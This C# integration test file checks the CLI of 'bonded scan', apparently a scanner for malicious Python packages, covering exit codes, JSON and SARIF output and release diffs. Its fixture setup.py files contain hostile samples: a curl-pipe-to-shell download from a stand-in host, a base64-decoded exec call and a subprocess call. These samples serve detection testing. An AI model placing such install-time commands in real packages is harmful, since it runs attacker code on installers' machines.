using System.Formats.Tar;
using System.IO.Compression;
using System.Text;
using System.Text.Json;
using Bonded.Integration.Tests.Infrastructure;

namespace Bonded.Integration.Tests.Cli;

/// <summary>bonded scan: the exact CLI contract of issue 6 (formats, exit codes 0/1/2, one JSON object per file).</summary>
public sealed class ScanCommandTests
{
    private const string PkgInfo = "Metadata-Version: 2.1\nName: demo-pkg\nVersion: 1.0\nSummary: A demo\nAuthor: Someone\nHome-page: https://example.org\n\nA demo package.\n";

    private static void WriteSdist(string path, string setupPy)
    {
        using var file = File.Create(path);
        using var gzip = new GZipStream(file, CompressionLevel.Fastest);
        using var tar = new TarWriter(gzip, TarEntryFormat.Pax);
        foreach (var (name, content) in new[] { ("demo-pkg-1.0/PKG-INFO", PkgInfo), ("demo-pkg-1.0/setup.py", setupPy) })
        {
            tar.WriteEntry(new PaxTarEntry(TarEntryType.RegularFile, name) { DataStream = new MemoryStream(Encoding.UTF8.GetBytes(content)) });
        }
    }

    [Fact]
    public async Task Exit_codes_follow_the_verdicts_and_errors()
    {
        using var dir = new TempDirectory("bonded-scan");
        var clean = dir.Combine("demo-pkg-1.0.tar.gz");
        WriteSdist(clean, "from setuptools import setup\nsetup(name='demo-pkg')\n");
        var evilDir = Directory.CreateDirectory(dir.Combine("evil")).FullName;
        WriteSdist(Path.Combine(evilDir, "demo-pkg-1.0.tar.gz"), "import os\nos.system('curl -s http://x.invalid/a | sh')\n");

        Assert.Equal(0, (await BondedTool.RunAsync("scan", clean)).ExitCode);
        var flagged = await BondedTool.RunAsync("scan", clean, evilDir);
        Assert.Equal(1, flagged.ExitCode);
        Assert.Contains("download-execute", flagged.StandardOutput, StringComparison.Ordinal);
        Assert.Equal(2, (await BondedTool.RunAsync("scan", dir.Combine("missing.tar.gz"))).ExitCode);
    }

    [Fact]
    public async Task Json_prints_one_object_per_file_and_sarif_one_log()
    {
        using var dir = new TempDirectory("bonded-scan");
        WriteSdist(dir.Combine("a-1.0.tar.gz"), "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n");
        WriteSdist(dir.Combine("b-1.0.tar.gz"), "from setuptools import setup\nsetup()\n");

        var json = await BondedTool.RunAsync("scan", dir.Path, "--format", "json");
        var lines = json.StandardOutput.Split('\n', StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal(2, lines.Length);
        using var first = JsonDocument.Parse(lines[0]);
        Assert.EndsWith("a-1.0.tar.gz", first.RootElement.GetProperty("path").GetString(), StringComparison.Ordinal);
        Assert.Equal("threat", first.RootElement.GetProperty("verdict").GetString());
        var finding = first.RootElement.GetProperty("findings").EnumerateArray().First(f => f.GetProperty("check").GetString() == "obfuscated-exec");
        Assert.Equal(2, finding.GetProperty("line").GetInt32());
        Assert.Contains("exec(", finding.GetProperty("evidence").GetString(), StringComparison.Ordinal);
        Assert.Equal(1, json.ExitCode);

        var sarif = await BondedTool.RunAsync("scan", dir.Path, "--format", "sarif");
        using var log = JsonDocument.Parse(sarif.StandardOutput);
        Assert.Equal("2.1.0", log.RootElement.GetProperty("version").GetString());
        Assert.Equal(2, log.RootElement.GetProperty("runs").GetArrayLength());
    }

    [Fact]
    public async Task Previous_release_reports_new_install_time_calls()
    {
        using var dir = new TempDirectory("bonded-scan");
        var previous = dir.Combine("demo-pkg-0.9.tar.gz");
        var current = dir.Combine("demo-pkg-1.0.tar.gz");
        WriteSdist(previous, "from setuptools import setup\nsetup()\n");
        WriteSdist(current, "import subprocess\nsubprocess.call(['id'])\nfrom setuptools import setup\nsetup()\n");
        var result = await BondedTool.RunAsync("scan", current, "--previous", previous, "--format", "json");
        Assert.Contains("release-diff", result.StandardOutput, StringComparison.Ordinal);
    }
}
